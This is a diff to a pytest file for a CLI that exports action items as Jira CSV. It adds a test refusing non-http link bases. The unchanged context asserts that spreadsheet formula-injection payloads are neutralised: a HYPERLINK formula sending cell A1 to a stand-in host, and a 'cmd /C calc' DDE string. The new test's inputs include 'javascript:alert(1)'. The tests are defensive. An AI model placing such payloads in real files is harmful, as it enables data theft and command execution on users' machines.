@@ -372,3 +372,17 @@ def test_no_csv_cell_starts_like_a_spreadsheet_formula(repo: Path, fmt: str) -> 
     assert '\'=HYPERLINK("http://x.example/?"&A1,"canary") (INC-2024-0015 #2)' in cells
     assert "'@platform-team" in cells
     assert "'-2+3+cmd /C calc perf stage" in "\n".join(cells)
+
+
+@pytest.mark.parametrize(
+    "base", ["javascript:alert(1)", "git.example.com/pm", "https://", "https://x.example/a b"]
+)
+def test_a_link_base_that_is_no_web_address_is_refused(base: str) -> None:
+    result = run_cli(
+        "actions", str(SAMPLE_REPO), "--format", "jira-csv", "--link-base", base, *TODAY
+    )
+    assert (result.exit_code, result.stdout) == (2, "")
+    assert result.stderr.endswith(
+        f"Error: Invalid value for '--link-base': {base!r} is not an http(s) address like "
+        "https://github.com/example/pm/blob/main\n"
+    )
